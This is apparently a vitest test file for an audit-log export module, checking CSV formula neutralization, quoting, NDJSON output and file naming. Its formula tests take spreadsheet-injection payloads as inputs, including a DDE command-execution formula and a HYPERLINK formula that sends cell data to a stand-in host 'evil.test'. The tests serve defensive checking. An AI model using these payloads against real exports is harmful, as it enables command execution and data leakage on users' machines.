import { describe, expect, test } from "vitest";
import { type AuditRecord, csvHead, csvLine, nameExport, ndjsonLine, neutralizeFormula } from "./export";

const record = (over: Partial<AuditRecord> = {}): AuditRecord => ({
  organization: "acme",
  organizationId: "0190a0a0-0000-7000-8000-00000000000a",
  seq: 7,
  at: "2026-11-21T10:00:00.000Z",
  personId: null,
  personName: "Zoë Müller",
  role: "operator",
  verb: "connections.rename",
  outcome: "done",
  subjectKind: "connection",
  subjectId: "0190a0a0-0000-7000-8000-00000000000b",
  facts: { before: { name: "old" }, after: { name: "new" }, reason: "clarity" },
  requestId: "0190a0a0-0000-7000-8000-00000000000c",
  address: "192.0.2.1",
  previousHash: "0".repeat(64),
  hash: "f".repeat(64),
  ...over,
});

/** The cells of one line, as RFC 4180 reads them. */
function cellsOf(line: string): string[] {
  return [...line.replace(/\r\n$/, "").matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
  );
}

describe("formulas", () => {
  test.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\ttext",
    "\rtext",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    '"=1',
    "'=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
  ])("%j does not begin a cell with its sign", (text) => {
    const [first = ""] = neutralizeFormula(text).replace(/^[\s\p{Cf}"]+/u, "");
    expect(first).toBe("'");
  });

  test.each(["a;=1", "a\t=1", "a\r\n=1", "a\n-1", 'a;"=1', "a; +1", "a|@x"])(
    "nor where %j is split, as other locales split at semicolons and lines",
    (text) => {
      for (const part of neutralizeFormula(text).split(/[;\t\r\n|]/)) {
        expect(part.replace(/^[\s\p{Cf}"]+/u, "")).not.toMatch(/^[=+\-@]/);
      }
    },
  );

  test.each(["", "a = b", "olga@acme.test", "10.0.0.0/16", "vpc-0a1b", '{"a":-1}', "Zoë, née X"])(
    "%j is left as it is",
    (text) => expect(neutralizeFormula(text)).toBe(text),
  );
});

describe("CSV", () => {
  test("begins with a byte order mark and its columns", () => {
    expect(csvHead().startsWith('\uFEFF"organization","number","time"')).toBe(true);
    expect(csvHead().endsWith("\r\n")).toBe(true);
  });

  test("has before and after apart from the other facts", () => {
    const heads = cellsOf(csvHead().slice(1));
    const cells = cellsOf(csvLine(record()));
    expect(cells).toHaveLength(heads.length);
    const named = Object.fromEntries(heads.map((head, index) => [head, cells[index]]));
    expect(named).toMatchObject({
      organization: "acme",
      number: "7",
      person: "Zoë Müller",
      act: "renamed a connection",
      before: '{"name":"old"}',
      after: '{"name":"new"}',
      facts: '{"reason":"clarity"}',
      "person id": "",
    });
  });

  test("keeps quotes, commas and line ends within their cell", () => {
    const name = 'a "b", c\r\nd';
    expect(cellsOf(csvLine(record({ personName: name })))[3]).toBe(name);
  });

  test("neutralizes what a person called themselves", () => {
    expect(cellsOf(csvLine(record({ personName: "=1+1" })))[3]).toBe("'=1+1");
  });
});

test("NDJSON is the entry exactly, formulas and all, without a byte order mark", () => {
  const hostile = record({ personName: '=1+1\r\n"', facts: { reason: "\uff1d1", __proto__x: [1, null] } });
  const line = ndjsonLine(hostile);
  expect(line.slice(0, -1)).not.toContain("\n");
  expect(line.endsWith("\n")).toBe(true);
  expect(JSON.parse(line)).toEqual(hostile);
});

test("a file is named after its organization and range", () => {
  const now = new Date("2026-11-22T23:59:59Z");
  expect(nameExport("acme", { from: "2026-11-01", to: "2026-11-05" }, "csv", now)).toBe(
    "audit-acme-2026-11-01-to-2026-11-05.csv",
  );
  expect(nameExport("acme", { from: "2026-11-01" }, "csv", now)).toBe(
    "audit-acme-2026-11-01-to-2026-11-22.csv",
  );
  expect(nameExport(null, {}, "ndjson", now)).toBe("audit-all-until-2026-11-22.ndjson");
});
